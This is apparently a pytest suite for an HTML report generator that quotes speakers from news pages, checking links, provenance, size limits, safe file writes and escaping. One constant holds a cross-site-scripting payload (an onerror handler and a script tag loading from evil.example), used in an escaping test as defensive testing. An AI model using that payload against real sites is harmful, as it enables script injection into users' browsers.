"""The report: one file that loads nothing and runs nothing, every answer with its words in their place."""

from __future__ import annotations

import re
import resource
from pathlib import Path

import msgspec
import pytest
from invented import TEXT, lake_record, small_record
from lxml import html

from onrecord.cli.app import run
from onrecord.model.provenance import Problem
from onrecord.model.spans import content_id
from onrecord.report import Asked, Limits, write_report
from onrecord.store import Store

HOSTILE = '<img src=x onerror=alert(1)>"><script src="//evil.example/x.js"></script>'


@pytest.fixture
def record_db(tmp_path: Path) -> Path:
    path = tmp_path / "record.db"
    with Store(path, write=True) as store:
        store.add(lake_record())
        for n in range(12):
            store.add(small_record(n))
    return path


def written(record_db: Path, **more: object) -> str:
    out = record_db.parent / "report.html"
    with Store(record_db) as store:
        write_report(store, out, **more)  # type: ignore[arg-type]
    return out.read_text("utf-8")


def test_every_link_within_the_page_leads_somewhere(record_db: Path) -> None:
    tree = html.fromstring(written(record_db))
    ids = tree.xpath("//@id")
    assert len(ids) == len(set(ids))
    inner = [one[1:] for one in tree.xpath("//@href") if one.startswith("#")]
    assert len(inner) > 20
    assert set(inner) <= set(ids)


def test_an_answer_stands_with_its_chain_its_place_and_its_sureness(record_db: Path) -> None:
    tree = html.fromstring(written(record_db))
    (answer,) = tree.xpath("//blockquote[contains(., 'We will not sign it')]/ancestor::div[@class='answer']")
    assert [one.text_content() for one in answer.xpath(".//li")] == [
        "Asha Odongo",
        "Lakeshore News Agency",
        "Shore Daily",
    ]
    assert "sure 0.90" in answer.text_content()
    place = answer.xpath(".//details/p")[0]
    assert "".join(mark.text_content() for mark in place.find_class("said")) == "“We will not sign it,”"
    assert place.text_content().strip("… ") in TEXT


def test_a_page_is_shown_as_it_stands(record_db: Path) -> None:
    tree = html.fromstring(written(record_db))
    page = tree.get_element_by_id(f"p-{lake_record().id}")
    for block in page.xpath("./p"):
        assert block.text_content() in TEXT
    assert "Most read" not in page.text_content()
    assert [one.text_content() for one in page.find_class("cue")] == ["said", "told", "warned"]


def test_it_loads_and_runs_nothing(record_db: Path) -> None:
    text = written(record_db)
    tree = html.fromstring(text)
    assert tree.xpath("//script|//img|//link|//iframe|//object|//@onclick|//@onload") == []
    assert tree.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")[0].startswith("default-src 'none'")
    assert "url(" not in text
    assert "@import" not in text


def test_words_of_a_page_are_never_markup(record_db: Path) -> None:
    record = lake_record()
    first = record.statements[0]
    hostile = msgspec.structs.replace(
        record,
        id="hostile",
        text=TEXT.replace("Most read: ten lakes to see", HOSTILE + "\u202e\x07"),
        page=msgspec.structs.replace(record.page, title=HOSTILE),
        zones=(),
        input=msgspec.structs.replace(record.input, uri=f"javascript:{HOSTILE}"),
        statements=(
            msgspec.structs.replace(first, id="s", content=msgspec.structs.replace(first.content, text=HOSTILE)),
        ),
        events=(),
        problems=(Problem(what=HOSTILE, detail=HOSTILE),),
    )
    with Store(record_db, write=True) as store:
        store.add(hostile)
    text = written(record_db)
    tree = html.fromstring(text)
    assert tree.xpath("//script|//img|//@onerror") == []
    assert not [one for one in tree.xpath("//@href") if not one.startswith(("#", "http"))]
    assert "\u202e" not in text
    assert "\x07" not in text
    assert tree.text_content().count("<img src=x") >= 4


def test_what_could_not_be_read_stands_at_the_end(record_db: Path) -> None:
    text = written(record_db)
    assert text.index('id="unread"') > text.index('id="pages"')
    assert "the dateline and the page's date differ by a day" in html.fromstring(text).text_content()


def test_a_report_of_one_speaker(record_db: Path) -> None:
    text = html.fromstring(written(record_db, asked=Asked(who="Asha Odongo", about="Tanzania"))).text_content()
    assert "Asha Odongo on Tanzania: on record" in text
    assert "Ferry" not in text


def test_it_stays_bounded(record_db: Path) -> None:
    small = Limits(speakers=2, statements=1, events=1, pairs=1, pages=1, characters=60, problems=1)
    text = written(record_db, limits=small)
    assert len(text) < 20_000
    told = html.fromstring(text).text_content()
    assert "the rest of the page is left out" in told
    assert re.search(r"\d more pages? quoted above and left out here", told)
    assert "1 more are on record" in told
    assert "the latest 1 are shown" in told
    assert "what is shown below is the latest of it" in told
    assert "nothing" not in "".join(html.fromstring(text).xpath("//*[local-name()='svg']//text()"))


def test_what_several_pages_carry_is_shown_once(record_db: Path) -> None:
    one = small_record(3)
    copy = msgspec.structs.replace(
        one,
        id=content_id("copy", one.id),
        input=msgspec.structs.replace(one.input, uri="/ferries/copy.txt"),
        statements=tuple(msgspec.structs.replace(each, id=content_id("copy", each.id)) for each in one.statements),
    )
    with Store(record_db, write=True) as store:
        store.add(copy)
    tree = html.fromstring(written(record_db))
    (told,) = tree.xpath("//blockquote[contains(., 'ferry number 3 would')]/ancestor::div[@class='answer']")
    assert "on 2 pages" in told.text_content()


def test_an_empty_record_makes_a_report_too(tmp_path: Path) -> None:
    path = tmp_path / "record.db"
    Store(path, write=True).close()
    assert "nothing dated to draw" in written(path)


def test_the_command(record_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = record_db.parent / "a.html"
    assert run(["report", "--record", str(record_db), "--out", str(out), "--json"]) == 0
    assert '"statements": ' in capsys.readouterr().out
    assert out.exists()
    assert run(["report", "--record", str(record_db), "--out", str(record_db.parent / "no" / "a.html")]) == 1
    assert "cannot be written" in capsys.readouterr().err


def test_a_disk_that_fills_up_leaves_the_old_report(record_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = record_db.parent / "a.html"
    assert run(["report", "--record", str(record_db), "--out", str(out)]) == 0
    before = out.read_bytes()
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (len(before) - 1, hard))
    try:
        assert run(["report", "--record", str(record_db), "--out", str(out)]) == 1
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert "a.html cannot be written: File too large" in capsys.readouterr().err
    assert out.read_bytes() == before
    assert not list(record_db.parent.glob("*.partial"))


def test_offices_and_addresses_are_told_as_a_reader_knows_them(record_db: Path) -> None:
    own = "https://shore.example/own"
    record = lake_record()
    with Store(record_db, write=True) as store:
        page = msgspec.structs.replace(record.page, canonical=own)
        store.add(msgspec.structs.replace(record, page=page), replace=True)
    tree = html.fromstring(written(record_db))
    assert any("minister of Kenya" in one.text_content() for one in tree.xpath("//h3/small"))
    assert tree.xpath(f"//a[@href='{own}']")
    assert tree.xpath(f"//a[starts-with(@href, '{own}#:~:text=')]")
